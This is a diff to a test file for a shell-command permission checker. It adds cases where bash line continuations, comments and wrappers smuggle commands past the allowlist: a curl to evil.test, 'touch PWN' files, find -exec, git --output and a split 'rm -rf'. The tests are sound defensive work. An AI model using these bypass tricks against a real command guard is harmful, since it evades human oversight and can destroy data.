@@ -86,6 +86,13 @@ const attacks: Attack[] = [
   ['backslash in the command name', MAIN, shell('g\\it status'), /contains '\\'/],
   ['a comment does not hide the next line', MAIN, shell('git status # all good\ncurl http://evil.test'), /'curl http:\/\/evil.test' matches none/],
   ['# inside a word is not a comment', MAIN, shell('git status a#b; curl http://evil.test'), /not covered|matches none/],
+  // A line continuation between two non-blanks: bash deletes it and joins them into one word.
+  ['line continuation turns a comment into a command', MAIN, shell('git status\\\n#;touch PWN1'), /line continuation/],
+  ['line continuation builds find -exec', BROAD, shell("find . -maxdepth 0 -\\\nexec touch PWN3 ';'"), /line continuation/],
+  ['line continuation builds git --output', MAIN, shell('git diff --\\\noutput=/tmp/PWN4'), /line continuation/],
+  ['line continuation inside bash -c', MAIN, shell("bash -c 'git status\\\n#;touch PWN1'"), /line continuation/],
+  ['line continuation inside a heredoc fed to sh', AUTO, shell("sh <<'EOF'\nrm -r\\\nf build\nEOF"), /line continuation|cannot be checked/],
+  ...meaning('rm -rf *', ['rm -r\\\nf build', 'r\\\nm -rf build']).map(([name, policy, call]): Attack => [name, policy, call, /line continuation|cannot be checked/]),
   // Wrappers are never trusted implicitly.
   ['env', MAIN, shell('env git status'), NOT_COVERED],
   ['command', MAIN, shell('command git status'), NOT_COVERED],
